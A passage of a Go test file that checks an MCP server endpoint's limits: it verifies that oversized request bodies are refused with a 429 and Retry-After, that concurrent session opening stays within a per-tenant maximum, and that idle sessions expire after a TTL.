	shownUnchanged(t, text(res))
	if out.Error == nil {
		t.Fatalf("no error: %+v", out)
	}
	shownUnchanged(t, out.Error.Message)
	if len(out.Sanitized) == 0 {
		t.Errorf("the result does not say a link was neutralised: %+v", out)
	}
}

// A large MCP message waits for the large-body slots as a large job
// does; one that finds none is refused as the API refuses it (429 with
// Retry-After and the reason), not with the SDK's 400 for a body it could
// not read.
func TestMCPLargeBodiesWaitForSlots(t *testing.T) {
	f := newFixture(t)
	answers := make(chan *http.Response, 3)
	var held []*io.PipeWriter
	for range 3 {
		pr, pw := io.Pipe()
		held = append(held, pw)
		t.Cleanup(func() { pw.CloseWithError(io.ErrUnexpectedEOF) })
		req, _ := http.NewRequest("POST", f.http.URL+"/mcp", pr)
		req.Header.Set("Authorization", "Bearer "+keyA)
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		go func() {
			resp, err := f.http.Client().Do(req)
			if err != nil {
				resp = nil
			}
			answers <- resp
		}()
		go pw.Write(append([]byte(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"pad":"`), bytes.Repeat([]byte(" "), 3<<20/2)...))
		time.Sleep(200 * time.Millisecond) // past a MiB, holding a slot
	}
	select {
	case resp := <-answers:
		if resp == nil {
			t.Fatal("no answer")
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" || !strings.Contains(string(body), "too many large requests") {
			t.Errorf("a tenant's third large MCP message: %d (Retry-After %q) %s", resp.StatusCode, resp.Header.Get("Retry-After"), body)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("a third large MCP message was neither read nor refused")
	}
	for _, pw := range held {
		pw.CloseWithError(io.ErrUnexpectedEOF)
	}
}

// Requests that open MCP sessions all at once do not each see room for
// one more: however many come together, the tenant's sessions stay within
// the maximum.
func TestMCPSessionsBoundedAtOnce(t *testing.T) {
	f := newFixture(t)
	for round := range 2 {
		var opened atomic.Int64
		var wg sync.WaitGroup
		start := make(chan struct{})
		for range 4 * server.MaxMCPSessions {
			wg.Go(func() {
				<-start
				if status, _ := mcpPost(t, f.http.URL, keyA, "", mcpInit); status == http.StatusOK {
					opened.Add(1)
				}
			})
		}
		close(start)
		wg.Wait()
		if n := opened.Load(); n > server.MaxMCPSessions || round == 0 && n == 0 {
			t.Fatalf("round %d: %d sessions opened at once, the maximum is %d", round, n, server.MaxMCPSessions)
		}
	}
}

// An MCP session idle for the session TTL is closed: its ID is then
// unknown.
func TestMCPIdleSessionsAreClosed(t *testing.T) {
	f := newFixture(t, func(c *server.Config) { c.SessionTTL = server.Duration(200 * time.Millisecond) })
	status, sid := mcpPost(t, f.http.URL, keyA, "", mcpInit)
	if status != http.StatusOK || sid == "" {
		t.Fatalf("initialize: %d, session %q", status, sid)
	}
	ping := `{"jsonrpc":"2.0","method":"notifications/initialized"}`
	deadline := time.Now().Add(30 * time.Second)
	for {
		time.Sleep(300 * time.Millisecond) // longer than the TTL: idle
		status, _ := mcpPost(t, f.http.URL, keyA, sid, ping)
		if status == http.StatusNotFound {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("an MCP session idle past the session TTL still answers: %d", status)
		}
	}
	// Sessions closed for idling make room for new ones.
	for i := range server.MaxMCPSessions {
		if status, _ := mcpPost(t, f.http.URL, keyA, "", mcpInit); status != http.StatusOK {
			t.Fatalf("session %d: %d", i, status)
		}
	}
	for {
		time.Sleep(300 * time.Millisecond)
		status, _ := mcpPost(t, f.http.URL, keyA, "", mcpInit)
		if status == http.StatusOK {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("with %d sessions idle past the session TTL a new one is refused: %d", server.MaxMCPSessions, status)
		}
	}
}
